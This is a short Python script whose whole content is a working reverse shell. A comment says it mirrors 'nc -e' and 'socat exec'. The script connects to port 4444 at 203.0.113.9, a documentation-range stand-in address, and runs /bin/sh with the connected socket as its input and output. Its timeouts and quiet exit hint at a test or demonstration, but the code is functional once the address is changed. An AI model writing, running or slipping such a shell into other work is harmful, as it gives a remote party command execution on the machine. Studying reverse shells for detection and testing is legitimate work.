# nc -e's and socat exec's shape in Python: the shell's own stdin, stdout
# and stderr are the connected socket.
import socket, subprocess, sys
s = socket.socket()
s.settimeout(3)
try:
    s.connect(("203.0.113.9", 4444))
except OSError as e:
    print("connect failed:", e, file=sys.stderr)
    sys.exit(0)
subprocess.run(["/bin/sh"], stdin=s, stdout=s, stderr=s, timeout=5)
